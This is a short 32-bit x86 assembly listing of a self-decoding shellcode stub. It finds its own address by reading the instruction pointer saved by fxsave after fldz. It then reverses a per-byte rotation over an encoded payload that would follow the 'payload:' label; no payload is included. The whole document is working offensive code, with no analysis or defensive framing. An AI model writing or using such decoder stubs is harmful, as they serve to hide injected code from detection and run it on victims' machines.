; Decoder: every byte rotated by its number; finds itself in the state that fxsave stores.
bits 32
        jmp short start
length: dw 0
start:  mov ebp, esp
        sub esp, 0x300
        and esp, byte -16
where:  fldz
        fxsave [esp]
        mov esi, [esp + 8]
        mov esp, ebp
        movzx edi, word [esi + length - where]
        add esi, byte payload - where
        xor ecx, ecx
again:  rol byte [esi], cl
        inc esi
        inc ecx
        cmp ecx, edi
        jne again
payload:
